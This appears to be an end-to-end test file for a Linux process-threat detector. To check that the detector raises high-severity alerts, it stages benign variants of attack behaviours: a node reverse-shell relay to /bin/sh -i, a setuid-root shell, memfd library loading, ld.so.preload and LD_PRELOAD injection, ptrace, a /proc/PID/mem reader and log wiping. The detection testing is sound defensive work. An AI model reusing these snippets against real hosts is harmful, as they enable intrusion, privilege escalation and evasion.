// End to end: one real process per behaviour class, each a variant its rule's own test cases do not spell out
// (another relay, another runtime, another file name…), harmless (every payload sleeps; network traffic stays on
// loopback or inside a network namespace this test makes), then `daemoneye detect` with the
// built-in pack on a live snapshot: each must be reported by its rule at high.
import {type ChildProcess, execFileSync, spawn} from 'node:child_process';
import {chmodSync, copyFileSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {createServer, type Server, type Socket} from 'node:net';
import {join} from 'node:path';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import type {Alert} from '../../src/models/alert.js';
import {isolatedEnv, removeDir, runCli, tempDir} from '../helpers/cli.js';
import {waitFor} from '../helpers/wait.js';

const dir = tempDir('daemoneye-classes-');
const env = isolatedEnv(dir);
const tag = `de${process.pid}`;
const children: ChildProcess[] = [];
const sockets: Socket[] = [];
const servers: Server[] = [];
const cleanup: string[] = [];
const pids: Record<string, number> = {};
let alerts: Alert[] = [];

function start(command: string, args: string[], options: {argv0?: string; env?: NodeJS.ProcessEnv; stdin?: 'pipe' | 'ignore'} = {}): Promise<number> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, {
      detached: true,
      stdio: [options.stdin ?? 'ignore', 'ignore', 'ignore'],
      ...(options.argv0 === undefined ? {} : {argv0: options.argv0}),
      ...(options.env === undefined ? {} : {env: options.env}),
    });
    children.push(child);
    child.once('error', reject);
    child.once('spawn', () => resolve(child.pid as number));
  });
}

async function silentServer(): Promise<number> {
  const server = createServer((socket) => {
    sockets.push(socket);
    socket.on('error', () => undefined);
  });
  servers.push(server);
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      resolve(typeof address === 'object' && address !== null ? address.port : 0);
    });
  });
}

/** Pids whose argv contains `marker` (the processes of this test are tagged), oldest first. */
function pidsWith(marker: string, exeSuffix?: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const argv = readFileSync(`/proc/${entry}/cmdline`, 'latin1').split('\0').join(' ');
      if (!argv.includes(marker)) continue;
      if (
        exeSuffix !== undefined &&
        !execFileSync('readlink', [`/proc/${entry}/exe`])
          .toString()
          .trim()
          .endsWith(exeSuffix)
      )
        continue;
      found.push(Number(entry));
    } catch {
      // gone
    }
  }
  return found.sort((a, b) => a - b);
}

const HELPER_C = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc > 1 && strcmp(argv[1], "suidshell") == 0) {
    if (setgid(0) || setuid(0)) return 1;
    execl("/bin/sh", "sh", "-c", "sleep 600; true", (char *)0);
  } else if (argc > 2 && strcmp(argv[1], "memfdload") == 0) {
    int in = open(argv[2], O_RDONLY), fd = memfd_create("x", 0);
    char buf[65536]; ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0) if (write(fd, buf, n) != n) return 1;
    char path[64]; snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (!dlopen(path, RTLD_NOW)) return 2;
  } else if (argc > 2 && strcmp(argv[1], "trace") == 0) {
    if (ptrace(PTRACE_SEIZE, atoi(argv[2]), 0, 0) != 0) return 3;
  } else if (argc > 2 && strcmp(argv[1], "readmem") == 0) {
    char path[64]; snprintf(path, sizeof path, "/proc/%s/mem", argv[2]);
    if (open(path, O_RDONLY) < 0) return 4;
  }
  sleep(600);
  return 0;
}
`;

beforeAll(async () => {
  const helper = join(dir, 'helper');
  writeFileSync(join(dir, 'helper.c'), HELPER_C);
  execFileSync('cc', ['-O2', '-o', helper, join(dir, 'helper.c'), '-ldl']);
  writeFileSync(join(dir, 'hook.c'), 'static void __attribute__((constructor)) init(void) {}\n');
  const hook = join(dir, 'libhook.so');
  execFileSync('cc', ['-shared', '-fPIC', '-o', hook, join(dir, 'hook.c')]);

  // 1. A shell relayed by a node script file (not an inline -e, which the command-line rule reads): the script
  //    connects to a loopback listener and pipes the socket into /bin/sh -i and its output back.
  const relayPort = await silentServer();
  const relay = join(dir, `relay-${tag}.js`);
  writeFileSync(
    relay,
    `const c=require('net').connect(${relayPort},'127.0.0.1');const s=require('child_process').spawn('/bin/sh',['-i'],{stdio:['pipe','pipe','pipe']});c.pipe(s.stdin);s.stdout.pipe(c);s.stderr.pipe(c);c.on('error',()=>{});`,
  );
  pids.relay = await start(process.execPath, [relay]);
  pids.relayShell = await waitFor(
    () => pidsWith('/bin/sh -i').find((pid) => readFileSync(`/proc/${pid}/stat`, 'latin1').split(') ')[1]?.split(' ')[1] === String(pids.relay)),
    'relayed shell',
    20_000,
  );

  // 2. A setuid-root backdoor run by nobody that turns itself into a root shell: the root sh's parent runs as 65534.
  const suid = join(dir, 'rootme');
  copyFileSync(helper, suid);
  chmodSync(dir, 0o755);
  chmodSync(suid, 0o4755);
  pids.unprivParent = await start('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '/bin/sh', '-c', `${suid} suidshell; true # ${tag}-suid`]);
  pids.rootShell = await waitFor(
    () =>
      pidsWith('sleep 600; true').find(
        (pid) =>
          /Uid:\s+0\s/.test(readFileSync(`/proc/${pid}/status`, 'latin1')) &&
          readFileSync(`/proc/${pid}/stat`, 'latin1').split(') ')[1]?.split(' ')[1] === String(pids.unprivParent),
      ),
    'root shell',
    20_000,
  );

  // 3. A podman-named container cgroup (libpod-<id>.scope) holding a process that nsenter put in the host's mount namespace.
  const cgroup = `/sys/fs/cgroup/memory/libpod-${'d'.repeat(60)}${tag.slice(-4).padStart(4, '0')}.scope`;
  mkdirSync(cgroup, {recursive: true});
  cleanup.push(cgroup);
  // pid 2 (kthreadd) is in the host's namespaces and, unlike a sandbox's pid 1, can always be entered
  pids.crossing = await start('nsenter', ['-t', '2', '-m', '--', '/usr/bin/sleep', '600']);
  writeFileSync(join(cgroup, 'cgroup.procs'), String(pids.crossing));

  // 4. argv[0] `tail -f /var/log/syslog` on a copy of sleep called kswapd in /var/tmp.
  const kswapd = `/var/tmp/kswapd-${tag}`;
  copyFileSync('/usr/bin/sleep', kswapd);
  cleanup.push(kswapd);
  pids.impersonation = await start(kswapd, ['600'], {argv0: 'tail -f /var/log/syslog'});

  // 5. A program whose file is named like a log.
  const logName = join(dir, 'debug.log');
  copyFileSync('/usr/bin/sleep', logName);
  pids.dataName = await start(logName, ['600']);

  // 6. A program in ~/.local/share/fonts of root's home (a data directory, not a tool directory).
  const fonts = `/root/.local/share/fonts/.${tag}`;
  mkdirSync(fonts, {recursive: true});
  cleanup.push(fonts);
  copyFileSync('/usr/bin/sleep', join(fonts, 'fc-cache'));
  pids.homeHidden = await start(join(fonts, 'fc-cache'), ['600']);

  // 7. A program in a plain (not hidden) directory of /dev/shm.
  const shm = `/dev/shm/cache-${tag}`;
  mkdirSync(shm, {recursive: true});
  cleanup.push(shm);
  copyFileSync('/usr/bin/sleep', join(shm, 'worker'));
  pids.shm = await start(join(shm, 'worker'), ['600']);

  // 8, 9. In a network namespace of its own, with 192.0.2.10 (a documentation address) on its loopback device: a node "pool" listening on 3333
  //    and 8443, a CPU-burning node client of the pool port (a miner whatever its name), and busybox copied into
  //    /tmp as `nc` holding a connection to 8443 (a beacon from a temp directory).
  const beacon = join(dir, 'nc');
  copyFileSync('/usr/bin/busybox', beacon);
  const pool = `const n=require('net');for(const p of [3333,8443])n.createServer(s=>s.on('error',()=>{})).listen(p,'192.0.2.10');`;
  const miner = `const c=require('net').connect(3333,'192.0.2.10');c.on('error',()=>{});setInterval(()=>{const e=Date.now()+40;while(Date.now()<e);},60);`;
  const node = process.execPath;
  pids.netns = await start('unshare', [
    '-n',
    '/bin/sh',
    '-c',
    `ip link set lo up; ip addr add 192.0.2.10/32 dev lo; ${node} -e "${pool}" & sleep 1; ${node} -e "${miner}" ${tag}-miner & sleep 600 | ${beacon} 192.0.2.10 8443 & wait`,
  ]);
  pids.miner = await waitFor(() => pidsWith(`${tag}-miner`, node.split('/').pop())[0], 'miner', 20_000);
  pids.beacon = await waitFor(() => pidsWith('192.0.2.10 8443', '/nc')[0], 'beacon', 20_000);

  // 10. ssh -D (a SOCKS proxy) run by nobody, to a loopback listener that never answers.
  const sshPort = await silentServer();
  pids.tunnel = await start('setpriv', [
    '--reuid=65534',
    '--regid=65534',
    '--clear-groups',
    'ssh',
    '-N',
    '-D',
    '1080',
    '-p',
    String(sshPort),
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'BatchMode=yes',
    '-o',
    `UserKnownHostsFile=/dev/null`,
    'x@127.0.0.1',
  ]);

  // 11. A C loader that copies a library into a memfd and dlopens it.
  pids.memfd = await start(helper, ['memfdload', hook]);

  // 12. A mount namespace whose /etc (a copy, bind-mounted) has an ld.so.preload naming the hook: sleep loads it.
  const etc = join(dir, 'etc');
  execFileSync('cp', ['-a', '/etc/.', etc]);
  writeFileSync(join(etc, 'ld.so.preload'), `${hook}\n`);
  pids.preloadNs = await start('unshare', [
    '-m',
    '--propagation',
    'private',
    '/bin/sh',
    '-c',
    `mount --bind ${etc} /etc && exec ${helper} idle ${tag}-preload`,
  ]);
  pids.preloaded = await waitFor(() => pidsWith(`${tag}-preload`, '/helper')[0], 'preloaded helper', 20_000);

  // 13. su, an authentication program, started with a library from a temp directory preloaded.
  pids.su = await start('/usr/bin/su', ['-s', '/bin/sh', 'nobody', '-c', `sleep 600; true # ${tag}-su`], {env: {...process.env, LD_PRELOAD: hook}});

  // 14. A process holding another's /proc/PID/mem open, and 15. a non-debugger tracer (both sides reported).
  pids.memTarget = await start('/usr/bin/sleep', ['600']);
  pids.memReader = await start(helper, ['readmem', String(pids.memTarget)]);
  pids.tracee = await start('/usr/bin/sleep', ['601']);
  pids.tracer = await start(helper, ['trace', String(pids.tracee)]);

  // 16. A loop truncating a log with `: >` every minute.
  const log = `/var/log/daemoneye-${tag}.log`;
  cleanup.push(log);
  pids.logWipe = await start('/bin/sh', ['-c', `while true; do : > ${log}; sleep 60; done`]);

  // 17. An interactive sh of the daemon account (uid 1) under this runner, and an implant started as a login shell.
  pids.daemonShell = await start('setpriv', ['--reuid=1', '--regid=1', '--clear-groups', '/bin/sh', '-i'], {stdin: 'pipe'});
  const bd = join(dir, 'bd');
  copyFileSync('/usr/bin/sleep', bd);
  pids.loginShell = await start(bd, ['600'], {argv0: '-bash'});

  await new Promise((resolve) => setTimeout(resolve, 1500));
  const detect = await runCli(['detect', '--format', 'json'], {env, timeoutMs: 240_000});
  expect(detect.code, detect.stderr).toBe(0);
  alerts = (JSON.parse(detect.stdout) as {alerts: Alert[]}).alerts;
}, 360_000);

afterAll(() => {
  for (const socket of sockets) socket.destroy();
  for (const server of servers) server.close();
  for (const child of children) {
    try {
      process.kill(-(child.pid ?? 0), 'SIGKILL');
    } catch {
      // gone
    }
  }
  // Every tagged process and its group too: su runs its command in a session of its own (setsid), so the
  // `sh -c 'sleep 600'` it starts, and that sleep, outlive a kill of su's group; left alive, they were
  // still mapping a deleted library when the isolated live false-positive pass ran.
  for (const pid of [pids.rootShell, pids.relayShell, pids.miner, pids.beacon, pids.preloaded, ...pidsWith(tag)]) {
    for (const target of pid === undefined ? [] : [-pid, pid]) {
      try {
        process.kill(target, 'SIGKILL');
      } catch {
        // gone, or not a group leader
      }
    }
  }
  for (const path of cleanup) {
    try {
      if (path.startsWith('/sys/fs/cgroup/')) rmSync(path, {recursive: false, force: true});
      else rmSync(path, {recursive: true, force: true});
    } catch {
      // a cgroup is removable only once empty
    }
  }
  removeDir(dir);
});

const severityOf = (rule: string, pid: number | undefined): string | undefined =>
  alerts.find((alert) => alert.rule_id === rule && pid !== undefined && alert.affected_processes.includes(pid))?.severity;

describe('behaviour classes on real processes (one variant each that the rule cases do not spell out)', () => {
  it.each([
    ['shell-network-relay', 'relayShell', 'a shell fed by a node script relay'],
    ['shell-network-relay', 'relay', 'the node relay itself'],
    ['credential-transition', 'rootShell', 'a root shell whose parent runs as nobody'],
    ['container-boundary-crossing', 'crossing', 'nsenter into the host mount namespace from a podman cgroup'],
    ['command-line-impersonation', 'impersonation', "argv[0] 'tail -f /var/log/syslog' on a copied binary"],
    ['executable-named-like-data', 'dataName', 'a program named debug.log'],
    ['home-hidden-dir-execution', 'homeHidden', 'a program in ~/.local/share/fonts'],
    ['memory-backed-dir-execution', 'shm', 'a program in a plain /dev/shm directory'],
    ['miner-pool-connection', 'miner', 'a CPU-burning node client of port 3333'],
    ['beacon-from-odd-place', 'beacon', 'busybox nc copied into /tmp holding a connection'],
    ['tunnel-or-port-forward', 'tunnel', 'ssh -D run by nobody'],
    ['fileless-code-mapping', 'memfd', 'a C loader dlopening a memfd'],
    ['ld-so-preload-rootkit', 'preloaded', 'a preload in a private mount namespace'],
    ['auth-process-unusual-library', 'su', 'su with a temp library preloaded'],
    ['process-memory-access', 'memReader', 'a reader of /proc/PID/mem'],
    ['process-memory-access', 'memTarget', 'the process whose memory it holds'],
    ['ptrace-non-debugger', 'tracer', 'the tracer'],
    ['ptrace-non-debugger', 'tracee', 'the traced process'],
    ['log-tampering', 'logWipe', 'a `: >` loop on a log'],
    ['system-account-shell', 'daemonShell', 'sh -i of the daemon account'],
    ['system-account-shell', 'loginShell', 'an implant started as -bash, not in /etc/shells'],
  ])('%s reports %s (%s) at high', (rule, name) => {
    const pid = pids[name];
    expect([rule, name, severityOf(rule, pid)]).toEqual([rule, name, 'high']);
  });
});
